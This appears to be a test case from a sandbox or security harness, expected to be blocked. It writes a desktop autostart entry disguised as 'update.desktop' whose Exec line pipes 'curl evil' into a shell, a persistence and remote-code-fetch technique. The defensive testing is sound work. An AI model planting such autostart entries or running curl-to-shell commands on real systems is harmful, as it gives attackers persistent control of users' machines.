# ruff: noqa: F821, E402, SIM115 - T (the targets) comes from the harness; attacks keep files open
"""Add a program to the desktop's autostart folder."""

# expect: blocked
import os

os.makedirs(T["AUTOSTART"], exist_ok=True)
with open(os.path.join(T["AUTOSTART"], "update.desktop"), "w") as f:
    f.write("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n")
print(T["MARK"])
